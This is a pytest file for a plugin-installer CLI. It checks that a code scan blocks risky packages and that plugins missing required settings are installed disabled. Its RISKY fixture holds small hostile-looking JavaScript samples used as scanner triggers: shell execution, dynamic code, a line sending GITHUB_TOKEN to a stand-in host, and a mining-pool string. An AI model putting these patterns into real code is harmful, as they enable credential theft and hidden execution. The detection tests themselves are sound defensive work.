"""What `plugins install` judges before anything lands: the gateway's code scan, and settings its validator requires.

1. Dangerous code: the gateway's installer blocks a package with a `critical` pattern unless forced; vora
   stops with the patterns (file:line) and nothing written, unless `--allow-risky-code` or a yes on a
   terminal; `-l` warns and links. A dependency the gateway never installs stops it whatever the options.
2. Required settings: an install never writes a config the gateway's validator refuses: a plugin whose
   `configSchema` requires keys the config does not hold is installed disabled, with the keys and the
   command that sets them; `enable` and `use` refuse it, naming them, and write nothing.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from plugins_support import NPM_DATA, make_plugin, snapshot, write_config

from tests.conftest import Run
from vora_cli.core.json5 import parser

REPO = Path(__file__).resolve().parents[3]
KEYED = {"type": "object", "additionalProperties": False, "required": ["apiKey", "region"],
         "properties": {"apiKey": {"type": "string"}, "region": {"type": "string"}}}
REGION = {"type": "object", "required": ["region"], "properties": {"region": {"type": "string", "default": None}}}


def _config(state_dir: Path) -> dict:
    return parser.loads((state_dir / "vora.json").read_text())


def _risky(root: Path, plugin_id: str, code: str, name: str = "dist/index.js") -> Path:
    plugin = make_plugin(root, plugin_id, kind=None)
    (plugin / name).parent.mkdir(parents=True, exist_ok=True)
    (plugin / name).write_text(code)
    return plugin


RISKY = {  # one member of each critical rule, each somewhere else in the package
    "exec": ("dist/index.js", 'import cp from "node:child_process";\nexport default { register() {\n  cp.execFile("x");\n} };\n',
             "Shell command execution detected (child_process) (dist/index.js:3)"),
    "function": ("dist/lib/compile.mjs", "export const f = new Function('return 1');\n",
                 "Dynamic code execution detected (dist/lib/compile.mjs:1)"),
    "harvest": ("src/index.ts", "const token = process.env.GITHUB_TOKEN;\nawait fetch('https://x', { body: token });\n",
                "Environment variable access combined with network send — possible credential harvesting (src/index.ts:1)"),
    "miner": ("dist/worker.cjs", "module.exports = 'stratum+ssl://pool:443';\n",
              "Possible crypto-mining reference detected (dist/worker.cjs:1)"),
}


@pytest.mark.parametrize("case", sorted(RISKY))
def test_dangerous_code_stops_the_install_with_each_pattern_and_nothing_written(
        case: str, tmp_path: Path, state_dir: Path, vora: Callable[..., Run]) -> None:
    name, code, shown = RISKY[case]
    plugin = _risky(tmp_path / "src" / f"risky-{case}", f"risky-{case}", code, name)
    write_config(state_dir)
    before, files = (state_dir / "vora.json").read_bytes(), snapshot(state_dir)
    result = vora("plugins", "install", str(plugin))
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"error: risky-{case}: dangerous code patterns: {shown}; nothing was installed",
        f"hint: read the code at those lines; to install it anyway: vora plugins install {plugin} --allow-risky-code"]
    assert (state_dir / "vora.json").read_bytes() == before and snapshot(state_dir) == files
    dry = vora("plugins", "install", str(plugin), "--dry-run", "--json")
    assert dry.exit_code == 1 and dry.json()["error"]["code"] == "refused"


def test_allow_risky_code_installs_and_says_what_it_let_through(tmp_path: Path, state_dir: Path,
                                                                 vora: Callable[..., Run]) -> None:
    name, code, shown = RISKY["exec"]
    plugin = _risky(tmp_path / "src" / "risky", "risky", code, name)
    write_config(state_dir)
    result = vora("plugins", "install", str(plugin), "--allow-risky-code", "--json")
    assert result.exit_code == 0, result.stderr
    assert f"warning: risky: dangerous code patterns: {shown}; installed because you allowed it" in result.stderr
    assert result.json()["scan"]["critical"] == 1 and result.json()["scan"]["findings"][0]["line"] == 3
    assert _config(state_dir)["plugins"]["entries"]["risky"] == {"enabled": True}


def _on_a_terminal(state_dir: Path, answer: str, *args: str) -> subprocess.CompletedProcess[str]:
    controller, terminal = os.openpty()
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    try:
        os.write(controller, answer.encode())
        return subprocess.run([sys.executable, "-m", "vora_cli", "--state-dir", str(state_dir), "plugins", "install",
                               *args], stdin=terminal, capture_output=True, text=True, env=env, timeout=120, check=False)
    finally:
        os.close(terminal)
        os.close(controller)


@pytest.mark.parametrize(("answer", "installed"), [("y\n", True), ("n\n", False), ("\n", False)])
def test_on_a_terminal_the_operator_decides(answer: str, installed: bool, tmp_path: Path, state_dir: Path) -> None:
    plugin = _risky(tmp_path / "src" / "asked", "asked", RISKY["function"][1], RISKY["function"][0])
    write_config(state_dir)
    done = _on_a_terminal(state_dir, answer, str(plugin))
    assert "warning: asked: dangerous code pattern: Dynamic code execution detected (dist/lib/compile.mjs:1)" in done.stderr
    assert "Install asked anyway? The gateway's own installer blocks it. [y/N]" in done.stderr
    assert (done.returncode == 0) is installed, done.stderr
    assert (state_dir / "extensions" / "asked").exists() is installed


def test_a_link_is_scanned_and_warned_about_never_stopped(tmp_path: Path, state_dir: Path,
                                                          vora: Callable[..., Run]) -> None:
    plugin = _risky(tmp_path / "dev" / "mine", "mine", RISKY["harvest"][1], RISKY["harvest"][0])
    write_config(state_dir)
    result = vora("plugins", "install", "-l", str(plugin))
    assert result.exit_code == 0, result.stderr
    assert ("warning: mine: dangerous code patterns: Environment variable access combined with network send — "
            "possible credential harvesting (src/index.ts:1); linked anyway") in result.stderr
    assert _config(state_dir)["plugins"]["load"]["paths"] == [str(plugin.resolve())]


def test_suspicious_patterns_are_reported_and_installed(tmp_path: Path, state_dir: Path,
                                                        vora: Callable[..., Run]) -> None:
    plugin = _risky(tmp_path / "src" / "chatty", "chatty",
                    "const ws = new WebSocket('wss://example.com:9443');\nconst ok = new WebSocket('wss://e.com:443');\n")
    write_config(state_dir)
    result = vora("plugins", "install", str(plugin))
    assert result.exit_code == 0
    assert ("warning: chatty: 1 suspicious code pattern: WebSocket connection to non-standard port "
            "(dist/index.js:1)") in result.stderr


def test_a_blocked_dependency_is_refused_even_when_allowed(tmp_path: Path, state_dir: Path,
                                                            vora: Callable[..., Run]) -> None:
    plugin = make_plugin(tmp_path / "src" / "pulls", "pulls", dependencies={"plain-crypto-js": "^4.2.0"})
    write_config(state_dir)
    result = vora("plugins", "install", str(plugin), "--allow-risky-code")
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == ('error: pulls: a dependency the gateway never installs: "plain-crypto-js" '
                                             "in dependencies of package.json; nothing was installed")
    assert not (state_dir / "extensions").exists()


def test_a_published_package_the_gateway_blocks(state_dir: Path, vora: Callable[..., Run]) -> None:
    write_config(state_dir)
    result = vora("plugins", "install", str(NPM_DATA / "simmer-automaton-0.7.2.tgz"), "--json")
    assert result.exit_code == 1
    message = result.json()["error"]["message"]
    assert message.startswith("simmer-automaton: dangerous code patterns: Environment variable access combined with "
                              "network send — possible credential harvesting (dist/index.js:304); ")
    assert "(src/index.ts:362)" in message


# -- required settings ----------------------------------------------------------------------------------


def test_a_plugin_that_requires_settings_is_installed_disabled_naming_them(tmp_path: Path, state_dir: Path,
                                                                            vora: Callable[..., Run]) -> None:
    plugin = make_plugin(tmp_path / "src" / "keyed", "keyed", kind=None, schema=KEYED)
    write_config(state_dir)
    result = vora("plugins", "install", str(plugin), "--json")
    assert result.exit_code == 0, result.stderr
    assert result.json()["needsSettings"] == ["apiKey", "region"]
    assert ("warning: keyed is installed disabled: the gateway would refuse to start with it on (invalid config: "
            "apiKey: must have required property 'apiKey', region: must have required property 'region'); set them: "
            "vora config set plugins.entries.keyed.config --stdin (the object {\"apiKey\": …, \"region\": …}), then: "
            "vora plugins enable keyed") in result.stderr
    assert _config(state_dir)["plugins"]["entries"]["keyed"] == {"enabled": False}
    assert vora("config", "validate").exit_code == 0  # the config the gateway starts on
    row = vora("plugins", "list", "--json").json()["plugins"][0]
    assert (row["status"], row["reason"]) == ("disabled", 'disabled in config: plugins.entries["keyed"].enabled is false')
    human = vora("plugins", "install", str(make_plugin(tmp_path / "src2" / "keyed2", "keyed2", kind=None, schema=KEYED)))
    assert "Installed plugin keyed2 (0.1.0, disabled until its settings are set) ->" in human.stdout


def test_enable_refuses_until_the_settings_are_there(tmp_path: Path, state_dir: Path, vora: Callable[..., Run]) -> None:
    write_config(state_dir)
    assert vora("plugins", "install", str(make_plugin(tmp_path / "src" / "keyed", "keyed", kind=None, schema=KEYED))
                ).exit_code == 0
    before = (state_dir / "vora.json").read_bytes()
    refused = vora("plugins", "enable", "keyed")
    assert refused.exit_code == 1
    assert refused.stderr.splitlines() == [
        "error: keyed needs settings the gateway would refuse to start without (invalid config: apiKey: must have "
        "required property 'apiKey', region: must have required property 'region'); nothing was changed",
        'hint: set them first: vora config set plugins.entries.keyed.config --stdin (the object {"apiKey": …, '
        '"region": …}), then: vora plugins enable keyed']
    assert (state_dir / "vora.json").read_bytes() == before
    given = vora("config", "set", "plugins.entries.keyed.config", "--stdin", input='{"apiKey": "k-1", "region": "eu"}')
    assert given.exit_code == 0, given.stderr
    assert vora("plugins", "enable", "keyed").exit_code == 0
    assert _config(state_dir)["plugins"]["entries"]["keyed"]["enabled"] is True


def test_settings_already_in_the_config_install_it_enabled(tmp_path: Path, state_dir: Path,
                                                            vora: Callable[..., Run]) -> None:
    (state_dir / "vora.json").write_text(json.dumps({"plugins": {"entries": {"keyed": {
        "config": {"apiKey": "k", "region": "eu"}}}}}))
    result = vora("plugins", "install", str(make_plugin(tmp_path / "src" / "keyed", "keyed", kind=None, schema=KEYED)))
    assert result.exit_code == 0 and "installed disabled" not in result.stderr
    assert _config(state_dir)["plugins"]["entries"]["keyed"]["enabled"] is True


def test_a_required_key_with_a_default_is_not_missing(tmp_path: Path, state_dir: Path, vora: Callable[..., Run]) -> None:
    write_config(state_dir)  # ajv fills a default in (useDefaults), as the gateway validates
    result = vora("plugins", "install", str(make_plugin(tmp_path / "src" / "dflt", "dflt", kind=None, schema=REGION)))
    assert result.exit_code == 0 and "installed disabled" not in result.stderr


def test_one_missing_secret_is_set_through_stdin(state_dir: Path, vora: Callable[..., Run]) -> None:
    write_config(state_dir)
    result = vora("plugins", "install", str(NPM_DATA / "simmer-automaton-0.7.2.tgz"), "--allow-risky-code")
    assert result.exit_code == 0, result.stderr
    assert ("set them: vora config set plugins.entries.simmer-automaton.config.apiKey --stdin, then: "
            "vora plugins enable simmer-automaton") in result.stderr


def test_use_on_install_of_a_plugin_that_needs_settings_selects_nothing(tmp_path: Path, state_dir: Path,
                                                                        vora: Callable[..., Run]) -> None:
    plugin = make_plugin(tmp_path / "src" / "mem-keyed", "mem-keyed", kind="memory", schema=KEYED)
    write_config(state_dir)
    result = vora("plugins", "install", str(plugin), "--use", "--json")
    assert result.exit_code == 0, result.stderr
    assert result.json()["slotChanges"] == [] and "then: vora plugins use mem-keyed" in result.stderr
    plugins = _config(state_dir)["plugins"]
    assert "slots" not in plugins and plugins["entries"]["mem-keyed"] == {"enabled": False}


def test_use_refuses_a_plugin_whose_settings_are_missing(tmp_path: Path, state_dir: Path,
                                                        vora: Callable[..., Run]) -> None:
    (state_dir / "vora.json").write_text('{ plugins: { entries: { "memory-lancedb": { enabled: true } } } }\n')
    before = (state_dir / "vora.json").read_bytes()
    bundled = vora("plugins", "use", "memory-lancedb")  # the gateway's own memory plugin needs an embedding
    assert bundled.exit_code == 1
    assert bundled.stderr.splitlines()[0] == (
        "error: memory-lancedb needs settings the gateway would refuse to start without (invalid config: embedding: "
        "must have required property 'embedding'); nothing was changed")
    assert (state_dir / "vora.json").read_bytes() == before
    linked = make_plugin(tmp_path / "dev" / "mem-one", "mem-one", kind="memory",
                         schema={"type": "object", "required": ["url"], "properties": {"url": {"type": "string"}}})
    # linked enabled: a memory plugin the slot does not select is not loaded, so its settings are not judged yet
    assert vora("plugins", "install", "-l", str(linked)).exit_code == 0
    assert _config(state_dir)["plugins"]["entries"]["mem-one"] == {"enabled": True}
    refused = vora("plugins", "use", "mem-one")
    assert refused.exit_code == 1 and "must have required property 'url'" in refused.stderr
    assert "hint: set them first: vora config set plugins.entries.mem-one.config.url VALUE, then: " \
           "vora plugins use mem-one" in refused.stderr
    assert vora("config", "set", "plugins.entries.mem-one.config.url", "http://127.0.0.1:8000").exit_code == 0
    assert vora("plugins", "use", "mem-one").exit_code == 0
    assert _config(state_dir)["plugins"]["slots"] == {"memory": "mem-one"}


def test_an_id_that_is_not_the_npm_name_is_said(state_dir: Path, vora: Callable[..., Run],
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    from vora_cli.core.plugins import npm

    monkeypatch.setattr(npm, "npm_install_production", lambda *_a, **_k: None)  # its dependencies: no network
    write_config(state_dir)
    result = vora("plugins", "install", str(NPM_DATA / "mem0-openclaw-mem0-1.0.16.tgz"))
    assert result.exit_code == 0, result.stderr
    assert ("its plugin id is openclaw-mem0 (the npm package is @mem0/openclaw-mem0): the config and vora plugins "
            "name it by the id") in result.stderr


# A plugin whose `configSchema` is not a JSON Schema: a one-line `invalid` error naming the plugin and
# its manifest, never `internal`; the other plugins still listed.
#
# The gateway's verdicts (openclaw 2026.4.12, `config validate` on each state below): it compiles a plugin's
# schema only when it loads the plugin, and then refuses the whole config ("read failed: Error: schema is
# invalid: …"); a plugin it does not load, or a config with no `plugins` section, is valid.

BROKEN = [{"type": "objekt"}, {"type": "object", "required": 5}, {"type": "object", "properties": []},
          {"type": "object", "properties": {"a": {"minimum": "x"}}}, {"$ref": "#/nope"}]
# config -> the gateway's `config validate` verdict with bad-s installed (the same for every schema above)
GATEWAY_VALID = {'{ plugins: { entries: { "bad-s": { enabled: true } } } }': False,
                 '{ plugins: { allow: ["bad-s"] } }': False,
                 '{ plugins: { entries: { "bad-s": { enabled: false } } } }': True,
                 "{}": True}


def _plugin(root: Path, plugin_id: str, schema: object) -> Path:
    root.mkdir(parents=True)
    (root / "openclaw.plugin.json").write_text(json.dumps({"id": plugin_id, "configSchema": schema}))
    (root / "package.json").write_text(json.dumps({"name": plugin_id, "version": "1.0.0", "type": "module",
                                                   "openclaw": {"extensions": ["./index.js"]}}))
    (root / "index.js").write_text(f'export default {{ id: "{plugin_id}", register() {{}} }};\n')
    return root


def _one_line_invalid(run: Run, *needles: str) -> None:
    assert run.exit_code == 1, run.stdout
    error = run.json()["error"] if run.stdout.startswith("{") else None
    text = error["message"] if error else run.stderr.splitlines()[0]
    assert (error or {}).get("code", "invalid") == "invalid"
    assert "internal" not in run.stderr and "Traceback" not in run.stderr
    for needle in needles:
        assert needle in text, text


@pytest.mark.parametrize("schema", BROKEN)
@pytest.mark.parametrize("link", [False, True])
def test_install_refuses_with_the_plugin_and_its_manifest(schema: object, link: bool, tmp_path: Path,
                                                          state_dir: Path, vora: Callable[..., Run]) -> None:
    source = _plugin(tmp_path / "src" / "bad-s", "bad-s", schema)
    (state_dir / "vora.json").write_text("{}\n")
    run = vora("plugins", "install", *(["-l"] if link else []), str(source), "--json")
    _one_line_invalid(run, "plugin bad-s", str(source / "openclaw.plugin.json"), "not a valid JSON Schema")
    assert (state_dir / "vora.json").read_text() == "{}\n"
    assert not (state_dir / "extensions").exists() or not list((state_dir / "extensions").iterdir())


@pytest.mark.parametrize("schema", BROKEN)
@pytest.mark.parametrize("config", sorted(GATEWAY_VALID))
def test_every_command_names_the_broken_schema(schema: object, config: str, state_dir: Path,
                                               vora: Callable[..., Run]) -> None:
    _plugin(state_dir / "extensions" / "bad-s", "bad-s", schema)
    _plugin(state_dir / "extensions" / "good-s", "good-s", {"type": "object"})
    (state_dir / "vora.json").write_text(config)
    validate = vora("config", "validate", "--json")
    assert validate.json()["valid"] is GATEWAY_VALID[config], validate.stdout
    assert validate.exit_code == (0 if GATEWAY_VALID[config] else 1)
    if not GATEWAY_VALID[config]:
        messages = [p["message"] for p in validate.json()["problems"] if p["severity"] == "error"]
        assert any("plugin bad-s" in m and "openclaw.plugin.json" in m and "not a valid JSON Schema" in m
                   for m in messages), messages
    listed = vora("plugins", "list", "--json")
    rows = {row["id"]: row for row in listed.json()["plugins"]}
    assert rows["good-s"]["status"] == "enabled" or "allow" in config
    if not GATEWAY_VALID[config] or config == "{}":  # a plugin the gateway would load
        assert rows["bad-s"]["status"] == "error" and "not a valid JSON Schema" in rows["bad-s"]["problem"]


@pytest.mark.parametrize("config", sorted(config for config, valid in GATEWAY_VALID.items() if not valid))
def test_doctor_audit_inspect_and_enable_say_it_too(config: str, state_dir: Path, vora: Callable[..., Run]) -> None:
    _plugin(state_dir / "extensions" / "bad-s", "bad-s", BROKEN[0])
    (state_dir / "vora.json").write_text(config)
    inspect = vora("plugins", "inspect", "bad-s", "--json")
    assert inspect.exit_code == 0 and "not a valid JSON Schema" in inspect.json()["problem"], inspect.stdout
    doctor = {c["id"]: c for c in vora("doctor", "--json").json()["checks"]}
    assert doctor["config-schema"]["status"] == "error" and "plugin bad-s" in doctor["config-schema"]["message"]
    assert doctor["plugin-manifests"]["status"] == "error"
    audit = vora("security", "audit", "--json")
    assert audit.exit_code in (0, 1) and "\"error\"" not in audit.stdout and not audit.stderr, audit.stderr
    enable = vora("plugins", "enable", "bad-s", "--json")
    _one_line_invalid(enable, "plugin bad-s", "openclaw.plugin.json", "not a valid JSON Schema")
